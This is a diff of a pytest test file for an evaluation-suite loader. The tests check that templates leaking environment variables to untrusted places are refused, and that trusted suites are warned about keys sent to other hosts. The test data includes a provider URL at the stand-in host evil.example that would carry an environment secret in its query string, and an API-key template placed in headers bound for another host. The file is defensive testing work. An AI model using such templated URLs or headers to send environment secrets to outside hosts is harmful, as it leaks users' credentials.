@@ -71,15 +71,15 @@ TEMPLATES = {
 @pytest.mark.parametrize("place", ["prompt", "variable", "env", "header", "url"])
 def test_the_environment_is_refused_by_name(template: str, place: str, tmp_path: Path) -> None:
     """Wherever a template of a file names a variable that nobody allowed."""
-    said: dict[str, Any] = {
+    places: dict[str, dict[str, Any]] = {
         "prompt": {"prompts": [template]},
         "variable": {"tests": [{"vars": {"x": template}}]},
         "env": {"env": {"MINE": template}},
         "header": {"providers": [{"id": ELSEWHERE, "config": {"headers": {"x": template}}}]},
         "url": {"providers": [f"https://evil.example/?q={template}"]},
-    }[place]
+    }
     file = tmp_path / "suite.json"
-    file.write_text(json.dumps({**PLAIN, **said}))
+    file.write_text(json.dumps({**PLAIN, **places[place]}))
     with pytest.raises(SuiteError) as caught:
         prepare(file, environ={**ENVIRON, "HOME": "/me"}, trusted=False)
     assert "DATABASE_URL" in str(caught.value)
@@ -318,7 +318,9 @@ def test_files_stay_in_the_folder(tmp_path: Path) -> None:
 
 def test_a_trusted_suite_is_warned_of_keys_that_go_elsewhere() -> None:
     """Once for each variable and host, whatever the number of providers."""
-    entries = [{"id": f"openai:{name}", "config": {"apiBaseUrl": ELSEWHERE}} for name in ("a", "b")]
+    entries: list[Any] = [
+        {"id": f"openai:{name}", "config": {"apiBaseUrl": ELSEWHERE}} for name in ("a", "b")
+    ]
     headers = {"headers": {"x": "{{env.ANTHROPIC_API_KEY}}"}}
     entries += [{"id": "https://other.example/", "config": headers}, "openai:c", "ollama:d"]
     prepared = ready({"providers": entries}, trusted=True)
